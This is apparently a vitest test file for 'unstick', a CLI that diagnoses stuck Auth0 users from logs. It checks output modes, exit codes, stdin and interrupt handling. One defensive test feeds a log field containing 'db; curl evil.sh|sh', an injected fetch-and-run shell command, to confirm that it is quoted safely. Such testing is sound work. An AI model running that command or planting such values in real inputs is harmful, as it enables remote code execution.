import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect, it, onTestFinished } from 'vitest';
import { runCli } from '../helpers/cli.js';

const STUCK = ['jane.doe@acme.com', 'li.wei@acme.com', 'marco.rossi@acme.com', 'olga.ivanova@acme.com', 'raj.patel@acme.com', 'sam.okafor@acme.com'];

describe('unstick diagnose --json on examples/logs', () => {
  it('finds exactly the stuck users of the example story, with the documented shape', async () => {
    const { code, stdout, stderr } = await runCli(['diagnose', 'examples/logs', '--json']);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const doc = JSON.parse(stdout);
    expect(doc.findings.map((f: { email: string }) => f.email).sort()).toEqual(STUCK);
    const jane = doc.findings.find((f: { email: string }) => f.email === 'jane.doe@acme.com');
    expect(Object.keys(jane)).toEqual(['email', 'kinds', 'occurrences', 'firstSeen', 'lastSeen', 'connections', 'evidence', 'next', 'classification', 'reason']);
    // Without --confirm the findings are candidates: no live classification.
    expect(doc.confirmed).toBe(false);
    expect([jane.classification, jane.reason]).toEqual([null, null]);
    expect(jane.kinds).toEqual(['DUPLICATED_USER', 'USER_ALREADY_EXISTS']);
    expect(jane.lastSeen).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(jane.evidence[0].source).toMatch(/^examples\/logs\/[\w.-]+:\d+$/);
    expect(jane.next).toBe('unstick repair jane.doe@acme.com --connection legacy-db');
    // Only a supporting kind: a related conflict with a note, not a stuck user to repair.
    expect(doc.related.map((f: { email: string; kinds: string[] }) => [f.email, f.kinds])).toEqual([['tom.berg@acme.com', ['EMAIL_CHANGE_CONFLICT']]]);
    expect(doc.related[0].next).toBeUndefined();
    expect(doc.jobFailures.map((e: { source: string }) => e.source)).toEqual(['examples/logs/import-job-failed.json:1']);
    expect(doc.inFileDuplicates.map((x: { email: string }) => x.email)).toEqual(['nina.kowalski@acme.com']);
    expect(doc.stats).toMatchObject({ malformed: 0, users: STUCK.length });
    expect(doc.stats.records).toBeGreaterThan(50);
    expect(Object.keys(doc.stats.formats).sort()).toEqual(
      ['actions-json', 'bunyan', 'cli-json', 'eventbridge', 'import-errors', 'log-stream', 'management-api', 'text'].sort(),
    );
  });

  it('--since/--until keep only evidence in the window', async () => {
    const since = '2024-05-02T12:00:00.000Z';
    const until = '2024-05-02T12:30:00.000Z';
    const doc = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--since', since, '--until', until])).stdout);
    const all = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json'])).stdout);
    const evidence = doc.findings.flatMap((f: { evidence: Array<{ time: string | null }> }) => f.evidence);
    expect(evidence.length).toBeGreaterThan(0);
    for (const e of evidence) expect(e.time >= since && e.time <= until).toBe(true);
    const count = (d: { findings: Array<{ occurrences: number }> }) => d.findings.reduce((n, f) => n + f.occurrences, 0);
    expect(count(doc)).toBeLessThan(count(all));
  });

  it('--connection keeps only events on that connection, and counts those naming none', async () => {
    const other = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--connection', 'other-db'])).stdout);
    expect(other.findings).toEqual([]);
    expect(other.stats.excluded.noConnection).toBeGreaterThan(0);
    const byName = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--connection', 'legacy-db'])).stdout);
    expect(byName.findings.map((f: { email: string }) => f.email).sort()).toEqual(STUCK);
    for (const f of byName.findings) expect(f.connections).toEqual(['legacy-db']);
    const human = await runCli(['diagnose', 'examples/logs', '--connection', 'legacy-db']);
    expect(human.stdout).toMatch(/note: \d+ marker events naming no connection left out by --connection/);
  });

  it('with a time window, undated events are left out and counted; an inverted window is a usage error', async () => {
    const doc = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--since', '7d'])).stdout);
    expect(doc.findings).toEqual([]); // every dated example is from 2024
    expect(doc.stats.excluded.undated).toBeGreaterThan(0);
    const inverted = await runCli(['diagnose', 'examples/logs', '--since', '2024-05-03', '--until', '2024-05-01']);
    expect(inverted.code).toBe(64);
    expect(inverted.stderr).toBe('error: --since is after --until: the window is empty\n');
  });

  it('an import job that failed as a whole is reported as a note', async () => {
    const { stdout } = await runCli(['diagnose', 'examples/logs/import-job-failed.json']);
    expect(stdout).toMatch(/note: an import job failed as a whole \(examples\/logs\/import-job-failed\.json:1\): /);
    const doc = JSON.parse((await runCli(['diagnose', 'examples/logs/import-job-failed.json', '--json'])).stdout);
    expect(doc.jobFailures).toHaveLength(1);
    expect(doc.jobFailures[0]).toMatchObject({ type: 'import_job_failed', source: 'examples/logs/import-job-failed.json:1' });
  });
});

describe('unstick diagnose output modes', () => {
  it('--csv has one row per user with email first: the batch-repair input', async () => {
    const { code, stdout } = await runCli(['diagnose', 'examples/logs', '--csv']);
    expect(code).toBe(0);
    const rows = parse(stdout, { columns: true }) as Array<Record<string, string>>;
    expect(stdout.split('\n')[0]).toBe('email,kinds,occurrences,first_seen,last_seen,connections,next_command');
    expect(rows.map((r) => r.email).sort()).toEqual(STUCK);
    expect(rows.find((r) => r.email === 'jane.doe@acme.com')!.kinds).toBe('DUPLICATED_USER;USER_ALREADY_EXISTS');
  });

  it('human output: a table, the in-file duplicate note and a summary; no color when piped', async () => {
    const { code, stdout } = await runCli(['diagnose', 'examples/logs', '--tz', 'Europe/Paris']);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^EMAIL\s+KINDS\s+SEEN\s+LAST SEEN\s+NEXT/);
    expect(stdout).toContain('unstick repair jane.doe@acme.com --connection legacy-db');
    expect(stdout).toContain('+02:00'); // Paris summer time
    expect(stdout).toContain('nina.kowalski@acme.com appears more than once in one import file');
    expect(stdout).toContain('note: tom.berg@acme.com: EMAIL_CHANGE_CONFLICT');
    expect(stdout).toMatch(/6 stuck users; read 62 records from 15 inputs \(actions-json 1, cli-json 8, log-stream 12, .*text 14\), 0 malformed records\n$/);
    const withBad = await runCli(['diagnose', 'examples/logs/stream.jsonl', 'test/fixtures/logs/truncated-last-line.jsonl']);
    expect(withBad.stdout).toMatch(/\(log-stream \d+ \+ 1 malformed\), 1 malformed record\n$/);
    expect(stdout).not.toContain('\u001b[');
  });

  it('colors on a terminal, and honours NO_COLOR there', async () => {
    const colored = await runCli(['diagnose', 'examples/logs'], { tty: true, env: { PATH: process.env.PATH } });
    expect(colored.stdout).toContain('\u001b[');
    const plain = await runCli(['diagnose', 'examples/logs'], { tty: true, env: { PATH: process.env.PATH, NO_COLOR: '1' } });
    expect(plain.stdout).not.toContain('\u001b[');
    const flag = await runCli(['diagnose', 'examples/logs', '--no-color'], { tty: true, env: { PATH: process.env.PATH } });
    expect(flag.stdout).not.toContain('\u001b[');
  });

  it('reads stdin with "-", gzip included', async () => {
    const line = JSON.stringify({ log_id: '1', data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: 'Pat@Acme.com ', connection: 'legacy-db' } });
    const { code, stdout } = await runCli(['diagnose', '-', '--json'], { stdin: gzipSync(`${line}\n`) });
    expect(code).toBe(0);
    expect(JSON.parse(stdout).findings[0]).toMatchObject({ email: 'pat@acme.com', evidence: [{ source: '-:1' }] });
  });

  it('malformed records are warned about on stderr with file:line, and the run still succeeds', async () => {
    const { code, stdout, stderr } = await runCli(['diagnose', 'test/fixtures/logs/truncated-last-line.jsonl', '--json']);
    expect(code).toBe(0);
    expect(stderr).toBe('warning: test/fixtures/logs/truncated-last-line.jsonl:3: malformed record (truncated: the input ends inside it); skipped\n');
    expect(JSON.parse(stdout).stats.malformedSamples).toEqual([{ source: 'test/fixtures/logs/truncated-last-line.jsonl:3', reason: 'truncated: the input ends inside it' }]);
  });
});

describe('unstick diagnose errors: one line, a documented exit code, no stack', () => {
  it('64 for bad usage', async () => {
    for (const argv of [
      ['diagnose', 'examples/logs', '--json', '--csv'],
      ['diagnose', 'examples/logs', '--since', 'yesterday-ish'],
      ['diagnose', 'examples/logs', '--tz', 'Mars/Olympus'],
      ['diagnose', 'examples/logs', '--format', 'xml'],
      ['diagnose'],
      ['nope'],
    ]) {
      const { code, stderr, stdout } = await runCli(argv);
      expect({ argv, code }).toEqual({ argv, code: 64 });
      expect(stdout).toBe('');
      expect(stderr.split('\n')[0]).toMatch(/^error: /);
      expect(stderr).not.toMatch(/\n\s+at /);
    }
    const bare = await runCli([]);
    expect(bare.code).toBe(64);
    expect(bare.stdout).toBe('');
    expect(bare.stderr).toMatch(/^Usage: unstick \[options\] \[command\]/);
    const unknown = await runCli(['diagnos', 'x']);
    expect(unknown.stderr).toBe(`error: unknown command 'diagnos' (Did you mean diagnose?)\nhint: run "unstick --help" for usage\n`);
    const since = await runCli(['diagnose', 'examples/logs', '--since', 'yesterday-ish']);
    expect(since.stderr).toContain('--since: expected an ISO 8601 time');
  });

  it('66 when an input does not exist', async () => {
    const { code, stderr } = await runCli(['diagnose', 'missing.jsonl']);
    expect(code).toBe(66);
    expect(stderr).toBe('error: missing.jsonl: no such file or directory\n');
  });

  it('65 when no input is a log, with one error line and a hint; a stack only with --debug', async () => {
    const { code, stderr } = await runCli(['diagnose', 'test/fixtures/logs/binary.bin']);
    expect(code).toBe(65);
    expect(stderr).toBe(
      'error: test/fixtures/logs/binary.bin: binary data, not a log\nhint: binary data is not a log (gzip is read as is): see docs/log-formats.md\n',
    );
    expect(stderr).not.toMatch(/\n\s+at /);
    const forced = await runCli(['diagnose', '--format', 'bunyan', 'examples/logs/stream.jsonl']);
    expect(forced.code).toBe(65);
    expect(forced.stderr).toBe(
      'error: examples/logs/stream.jsonl: JSON, but not Auth0 log records\nhint: it does not read as --format bunyan; without --format every format is tried, and --format text reads any text line by line\n',
    );
    const notALog = await runCli(['diagnose', 'test/fixtures/logs/not-a-log.json']);
    expect(notALog.code).toBe(65);
    expect(notALog.stderr).toMatch(/\nhint: every log format was tried \(management-api, cli-json, .*\); --format text reads it line by line, finding markers in plain text\n$/);
    const debug = await runCli(['diagnose', 'test/fixtures/logs/binary.bin', '--debug']);
    expect(debug.code).toBe(65);
    expect(debug.stderr).toMatch(/\n\s+at /);
  });
});

describe('hostile and awkward input', () => {
  it('quotes log-controlled text in the suggested command', async () => {
    const record = { log_id: '1', data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: "o'hara@acme.com", connection: 'db; curl evil.sh|sh\u0007' } };
    const { stdout } = await runCli(['diagnose', '-', '--json'], { stdin: `${JSON.stringify(record)}\n` });
    expect(JSON.parse(stdout).findings[0].next).toBe(`unstick repair 'o'\\''hara@acme.com' --connection 'db; curl evil.sh|sh'`);
  });

  it('a value starting with "-" never becomes a flag, and the CSV keeps emails verbatim', async () => {
    const line = (user: string, connection: string) =>
      JSON.stringify({ log_id: user, data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: user, connection } });
    const input = `${line('-bob@acme.com', '--help')}\n${line('+x@acme.com', 'db')}\n`;
    const doc = JSON.parse((await runCli(['diagnose', '-', '--json'], { stdin: input })).stdout);
    const next = Object.fromEntries(doc.findings.map((f: { email: string; next: string }) => [f.email, f.next]));
    expect(next['-bob@acme.com']).toBe('unstick repair --connection=--help -- -bob@acme.com');
    expect(next['+x@acme.com']).toBe('unstick repair +x@acme.com --connection db');
    const csv = (await runCli(['diagnose', '-', '--csv'], { stdin: input })).stdout;
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.email).sort()).toEqual(['+x@acme.com', '-bob@acme.com']);
    // Other columns keep the spreadsheet guard.
    expect(rows.find((r) => r.email === '-bob@acme.com')!.connections).toBe("'--help");
  });
});

describe('Ctrl+C', () => {
  it('in-process: aborting the context signal stops a read that would never end, with 130', async () => {
    const stdin = new PassThrough(); // never ended: only an interrupt can stop this read
    stdin.write(`${JSON.stringify({ log_id: '1', data: { type: 'fs', description: 'The user already exists.', user_name: 'a@acme.com' } })}\n`);
    const interrupt = new AbortController();
    setTimeout(() => interrupt.abort(), 100);
    const { code, stderr } = await runCli(['diagnose', '-', '--json'], { stdin, signal: interrupt.signal });
    expect(code).toBe(130);
    expect(stderr).toBe('interrupted\n');
  });

  it('the built CLI answers SIGINT with "interrupted" and exit code 130', async () => {
    const { spawn } = await import('node:child_process');
    const child = spawn(process.execPath, [path.resolve('bin/unstick.js'), 'diagnose', '-'], { stdio: ['pipe', 'pipe', 'pipe'] });
    let err = '';
    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
    child.stdin.write('2024-05-02T10:00:00Z DUPLICATED_USER a@acme.com\n');
    await new Promise((r) => setTimeout(r, 400));
    child.kill('SIGINT');
    const code = await new Promise<number | null>((resolve) => child.once('exit', resolve));
    expect(code).toBe(130);
    expect(err).toBe('interrupted\n');
  });
});

describe('the installed CLI (bin/unstick.js, built by pretest)', () => {
  const bin = path.resolve('bin/unstick.js');
  const exec = (args: string[], input?: string) =>
    spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8', input, env: { ...process.env, NO_COLOR: '1' } });

  it('--version, --help list the commands, exit codes pass through', () => {
    const version = exec(['--version']);
    expect(version.status).toBe(0);
    expect(version.stdout.trim()).toBe(JSON.parse(readFileSync('package.json', 'utf8')).version);
    const help = exec(['--help']);
    expect(help.status).toBe(0);
    expect(help.stdout).toMatch(/diagnose \[options\] \[inputs\.\.\.\]/);
    expect(exec(['diagnose', 'missing.jsonl']).status).toBe(66);
  });

  it('stops quietly when the reader of its output goes away (| head)', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'unstick-pipe-'));
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
    const file = path.join(dir, 'many.jsonl');
    const lines = Array.from({ length: 20000 }, (_, i) =>
      JSON.stringify({ log_id: String(i), data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: `user${i}@acme.com` } }),
    );
    writeFileSync(file, lines.join('\n') + '\n');
    const r = spawnSync('sh', ['-c', `"${process.execPath}" "${bin}" diagnose "${file}" --csv | head -1`], { encoding: 'utf8' });
    expect(r.stdout).toBe('email,kinds,occurrences,first_seen,last_seen,connections,next_command\n');
    expect(r.stderr).toBe('');
  });

  it('diagnoses a large line-delimited file with worker threads exactly like in-process', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'unstick-cli-'));
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
    const file = path.join(dir, 'big.jsonl');
    const lines: string[] = [];
    // Over the 64 MB parallel threshold, so the built CLI splits it between workers.
    const pad = 'x'.repeat(1000);
    for (let i = 0; lines.length * 1100 < 70e6; i++) {
      const stuck = i % 20000 === 0;
      lines.push(JSON.stringify({ log_id: String(i), data: { date: '2024-05-02T10:00:00Z', type: stuck ? 'fs' : 's', description: stuck ? 'The user already exists.' : 'Successful login', user_name: `u${i}@acme.com`, pad } }));
    }
    writeFileSync(file, lines.join('\n') + '\n');
    const r = exec(['diagnose', file, '--json']);
    expect(r.status).toBe(0);
    const doc = JSON.parse(r.stdout);
    expect(doc.stats.records).toBe(lines.length);
    const expected = lines.map((l, i) => [l, i + 1] as const).filter(([l]) => l.includes('already exists'));
    expect(doc.findings.map((f: { evidence: Array<{ source: string }> }) => f.evidence[0]!.source).sort()).toEqual(
      expected.map(([, line]) => `${file}:${line}`).sort(),
    );
  });
});
